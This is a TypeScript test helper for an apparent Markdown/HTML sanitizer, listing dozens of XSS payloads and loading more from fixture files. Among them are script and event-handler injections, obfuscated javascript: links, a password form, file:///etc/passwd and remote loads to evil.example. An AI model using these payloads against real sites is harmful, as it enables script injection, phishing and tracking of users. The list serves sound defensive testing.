import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

/** Texts that try to run a script, to load something, or to take another name in the page. */
export const OWN_ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
  'Before <b onclick="alert(1)">bold</b> and <svg onload=alert(1)> after',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"><button>Send</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<style>@import "https://evil.example/style.css"; body { background: url(https://evil.example/a.png) }</style>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](java&#115;cript:alert(1))',
  '[a](java&Tab;script:alert(1))',
  '[a](<java\tscript:alert(1)>)',
  '[a](&NewLine;javascript:alert(1))',
  '[a](&#1;javascript:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](<javascript:alert(1)//\nhttps://good.example>)',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](blob:https://evil.example/1) [b](file:///etc/passwd) [c](//evil.example) [d](\\\\evil.example)',
  '<javascript:alert(1)> <data:text/html,a> www.evil.example/<script>alert(1)</script>',
  '[a]\n\n[a]: javascript:alert(1) "title"',
  '![a]\n\n[a]: data:image/svg+xml,%3Csvg%20onload=alert(1)%3E',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '![a](https://evil.example/pixel.png) ![b](http://evil.example/pixel.png) ![c](//evil.example/pixel.png)',
  '![a" onerror="alert(1)](https://evil.example/a.png "b\' onload=\'alert(1)")',
  '[![a](https://evil.example/a.png)](javascript:alert(1))',
  '[![a](javascript:alert(1))](https://evil.example/)',
  '[a](https://evil.example/"onmouseover="alert(1))',
  'A note[^constructor] and[^<img src=x onerror=alert(1)>].\n\n[^constructor]: <script>alert(1)</script>\n[^<img src=x onerror=alert(1)>]: [a](javascript:alert(1))',
  '[a[^b]](https://evil.example/)\n\n[^b]: ![c](https://evil.example/a.png)',
  '## <a id="composer" name="body">Heading</a> {#composer onclick=alert(1)}',
  '| <script>alert(1)</script> | [a](javascript:alert(1)) |\n|---|:-:|\n| <img src=x onerror=alert(1)> | ![a](https://evil.example/a.png) |',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '```html onload=alert(1)\n<iframe src="javascript:alert(1)">\n```',
  '`<script>alert(1)</script>` ``</code><img src=x onerror=alert(1)>``',
  '- [ ] <input onfocus=alert(1) autofocus>\n- [x] <script>alert(1)</script>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<![CDATA[<script>alert(1)</script>]]> <?php alert(1) ?> <!DOCTYPE a [<!ENTITY b "c">]>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '$\\href{javascript:alert(1)}{a}$ $$\\htmlData{onclick=alert(1)}{a} \\includegraphics{https://evil.example/a.png}$$',
];

/** What the collections leave open stands for these. */
const BLANKS: readonly (readonly [RegExp, string])[] = [
  [/%js_uri_alert\w*%/g, 'javascript:alert(1)'],
  [/%js_\w+%|%html_alert_encoded%/g, 'alert(1)'],
  [/%[a-z]+_(?:\w+_)?path\w*%|%\w+_path%/g, 'https://evil.example/path'],
];

type Case = { readonly data?: string; readonly markdown?: string; readonly payload?: string };

/** Every text in a folder: cases of the `*.json`, lines of the `*.txt`. */
export function readAttacks(folder: string): readonly string[] {
  const attacks = readdirSync(folder)
    .sort()
    .flatMap((name) => {
      const content = readFileSync(join(folder, name), 'utf8');
      if (name.endsWith('.txt')) return content.split('\n');
      const { cases } = JSON.parse(content) as { readonly cases: readonly Case[] };
      return cases.map(({ data, markdown, payload }) => data ?? markdown ?? payload ?? '');
    });
  return attacks.filter((attack) => attack.trim() !== '').map(fillBlanks);
}

const fillBlanks = (attack: string) => BLANKS.reduce((filled, [blank, text]) => filled.replaceAll(blank, text), attack);

/** As an item of a list: what it leaves open ends with it. */
export const asItem = (attack: string) => `- ${attack.replaceAll(/\r\n?|\n/g, '\n  ')}`;
